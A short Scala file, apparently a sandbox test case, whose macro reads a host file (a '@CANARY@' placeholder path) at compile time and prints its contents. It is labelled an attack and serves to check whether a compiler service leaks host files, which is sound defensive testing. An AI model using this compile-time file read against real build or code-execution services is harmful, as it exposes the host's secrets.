// attack: is a macro that reads a file of the host's while it is compiled
import scala.language.experimental.macros
import scala.reflect.macros.blackbox.Context
object Own {
  def read: String = macro impl
  def impl(c: Context): c.Expr[String] = {
    import c.universe._
    c.Expr[String](Literal(Constant(scala.io.Source.fromFile("@CANARY@").mkString)))
  }
}
object Main { def main(arguments: Array[String]): Unit = println(Own.read) }
